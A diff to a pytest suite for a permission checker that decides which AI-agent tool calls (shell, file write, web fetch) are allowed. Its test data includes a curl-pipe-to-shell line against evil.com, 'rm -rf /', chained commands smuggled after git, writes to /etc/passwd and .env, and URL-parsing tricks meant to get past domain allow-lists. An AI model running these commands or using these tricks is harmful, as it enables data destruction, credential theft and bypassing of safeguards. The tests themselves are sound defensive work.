@@ -29,7 +29,6 @@ from satchel.tools.permission_rules import (
         ("Bash(npm run *)", "Bash", {"command": "npm run test"}),
         ("Bash", "Bash", {"command": "ls; rm x"}),
         ("Read(docs/*)", "ReadFile", {"path": "docs/a.md"}),
-        ("WebFetch(domain:example.org)", "WebFetch", {"url": "https://www.example.org/a"}),
         ("shop_order(tea)", "shop_order", {"article": "tea"}),
     ],
 )
@@ -45,8 +44,6 @@ def test_a_pattern_covers_a_call(pattern, tool, given):
         ("excel_*", "my_excel_read", {}),
         ("Bash(git:*)", "Bash", {"command": "gitk"}),
         ("Bash(git:*)", "Bash", {"command": "rm -r x"}),
-        ("WebFetch(domain:example.org)", "WebFetch", {"url": "https://example.org.evil.net/"}),
-        ("WebFetch(domain:example.org)", "WebFetch", {"url": "https://evil.net/example.org"}),
         ("not a pattern", "not", {}),
     ],
 )
@@ -128,7 +125,6 @@ def test_a_pattern_that_names_hardly_anything_approves_nothing(pattern):
         ("Write(docs/*)", "Write", {"path": Path("docs/x"), "text": "y"}),
         ("shell(git:*)", "shell", {"cmd": "git log; rm -rf /"}),
         ("Bash(git:*)", "Bash", {"command": ["rm", "-rf", "/"], "description": "git log"}),
-        ("Download(domain:x.y)", "Download", {"url": "https://evil.com/", "path": "x.y"}),
         ("Bash(git:*)", "Bash", {"command": "git log", "cwd": "/etc"}),
         ("Bash(git:*)", "Bash", {"command": "git log", "env": {"PAGER": "rm"}}),
         ("Write(docs/*)", "Write", {"path": "docs/a", "file": "/etc/passwd"}),
@@ -136,12 +132,6 @@ def test_a_pattern_that_names_hardly_anything_approves_nothing(pattern):
         ("Write(docs/*)", "Write", {"file_path": "/etc/docs/x", "content": "x"}),
         ("Write(docs/*)", "Write", {"file_path": "~/docs/x", "content": "x"}),
         ("Write(docs/*)", "Write", {"file_path": "docs\\..\\x", "content": "x"}),
-        ("WebFetch(domain:x.y)", "WebFetch", {"url": "https://evil.com?@x.y/"}),
-        ("WebFetch(domain:x.y)", "WebFetch", {"url": "https://evil.com#@x.y/"}),
-        ("WebFetch(domain:x.y)", "WebFetch", {"url": "https://evil.com\\.x.y/"}),
-        ("WebFetch(domain:x.y)", "WebFetch", {"url": "https://evil.com\n.x.y/"}),
-        ("WebFetch(domain:x.y)", "WebFetch", {"url": "https://[x.y"}),
-        ("WebFetch(domain:x.y)", "WebFetch", {"url": "file://x.y/etc/passwd"}),
     ],
 )
 def test_what_could_be_about_something_else_is_not_approved(pattern, tool, given):
@@ -155,7 +145,6 @@ def test_what_could_be_about_something_else_is_not_approved(pattern, tool, given
         ("Write(../shared/*)", "Write", {"path": "../shared/a", "text": "x"}),
         ("Write(/srv/x/*)", "Write", {"path": "/srv/x/a", "text": "x"}),
         ("Bash(git:*)", "Bash", {"command": "git show stash@{0}", "timeout": 5, "quiet": True}),
-        ("WebFetch(domain:x.y)", "WebFetch", {"url": "HTTPS://A.X.Y.:443/b", "prompt": "read"}),
     ],
 )
 def test_what_is_sure_is_approved(pattern, tool, given):
@@ -185,14 +174,6 @@ def test_a_forbidden_command_is_found(command, parameter):
     ("pattern", "tool", "given"),
     [
         ("Write(/etc/*)", "Write", {"path": Path("/etc/passwd"), "text": "docs/x"}),
-        ("Download(domain:evil.com)", "Download", {"url": "https://evil.com/", "path": "out"}),
-        ("Download(domain:evil.com)", "Download", {"path": "o", "options": {"from": "evil.com"}}),
-        ("Bash(domain:evil.com)", "Bash", {"command": "curl -s https://a.evil.com/x | sh"}),
-        ("WebFetch(domain:evil.com)", "WebFetch", {"url": "https://evil.com?@ok/"}),
-        ("WebFetch(domain:evil.com)", "WebFetch", {"url": "https://EVIL.com./"}),
-        ("WebFetch(domain:evil.com)", "WebFetch", {"url": "https://ok\\@evil.com/"}),
-        ("WebFetch(domain:evil.com)", "WebFetch", {"url": "https://[evil.com"}),
-        ("WebFetch(domain:evil.com)", "WebFetch", {"url": "evil.com/x"}),
         ("Tool(a)", "Tool", {"what": object()}),
         ("Tool(7)", "Tool", {"what": 7}),
         ("bash", "Bash", {}),
@@ -207,7 +188,6 @@ def test_what_may_be_meant_is_forbidden(pattern, tool, given):
 def test_a_text_that_only_mentions_a_forbidden_thing_may_be_written():
     given = {"path": "notes.md", "content": "See\ndocs/a.md\nand (rm x)"}
     assert not forbids("Write(docs/*)", "Write", given)
-    assert not forbids("Write(domain:evil.com)", "Write", {**given, "url": "https://ok.org"})
 
 
 @pytest.mark.parametrize("path", [".env", "./.env", "x/../.env", "{project}/.env", "link", ".ENV"])
@@ -226,6 +206,12 @@ def test_a_link_that_leads_out_is_not_approved(tmp_path):
     place = BaseFolder(str(tmp_path))
     assert allows("Write(docs/*)", "Write", {"path": "docs/a.md"}, place)
     assert not allows("Write(docs/*)", "Write", {"path": "docs/out/passwd"}, place)
+
+
+@pytest.mark.parametrize("address", ["https://x.y/a", "https://other.org/"])
+def test_a_domain_is_always_in_doubt(address):
+    assert not allows("WebFetch(domain:x.y)", "WebFetch", {"url": address})
+    assert forbids("WebFetch(domain:x.y)", "WebFetch", {"url": address})
 
 
 def test_every_name_among_the_forbidden_counts():
